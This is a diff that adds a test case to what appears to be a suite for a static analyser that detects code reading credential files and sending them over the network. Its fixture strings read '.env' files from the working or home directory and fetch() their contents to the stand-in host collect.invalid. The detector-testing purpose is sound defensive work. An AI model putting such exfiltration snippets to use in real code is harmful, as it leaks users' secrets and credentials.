@@ -32,6 +32,13 @@ describe('files', () => {
     );
   });
 
+  it('are known by what is asked of their names', () => {
+    const code = (asked: string) =>
+      `for (const n of fs.readdirSync(process.cwd()).filter((n) => ${asked})) fetch('https://collect.invalid/' + fs.readFileSync(path.join(process.cwd(), n)));`;
+    assert.deepEqual(flowsOf(code(`n.startsWith('.env')`)), ['credential-file>network@collect.invalid']);
+    assert.deepEqual(flowsOf(code(`n.endsWith('.md')`)), []);
+  });
+
   it('are known by the pattern that finds them', () => {
     const code = `require('glob').glob(['**/.env'], { cwd: os.homedir() }).then((all) => all.forEach((f) => fetch('https://collect.invalid/' + fs.readFileSync(f))));`;
     assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid']);
